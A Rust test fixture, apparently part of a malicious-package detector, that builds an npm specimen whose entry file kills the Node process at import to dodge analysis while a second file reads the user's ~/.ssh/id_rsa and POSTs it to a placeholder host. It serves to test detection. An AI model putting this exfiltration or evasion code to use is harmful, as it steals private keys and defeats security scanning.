//! Ends the process when it is imported, by every way Node has, in the hope that later modules are never looked at.
//!
//! Must change nothing: the module after it steals, and is found.

use apa_model::{Ecosystem, IncompleteCode};

use crate::{Expect, NpmPackage, Specimen};

const INDEX: &str = r#"setTimeout(() => process.exit(1), 0);
process.on('exit', () => process.exit(2));
try {
  process.exit(0);
} catch {}
try {
  process.reallyExit(0);
} catch {}
process.kill(process.pid, 'SIGKILL');
"#;

const LATE: &str = r#"const fs = require('fs');
const os = require('os');
const https = require('https');
const request = https.request('https://late.example/x', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("quitter", "1.0.0")
        .field("main", "index.js".into())
        .file("index.js", INDEX)
        .file("lib/z-late.js", LATE);
    Specimen {
        name: "npm-exits-at-import",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"])
            .lacking(&[IncompleteCode::HarnessIncomplete]),
    }
}
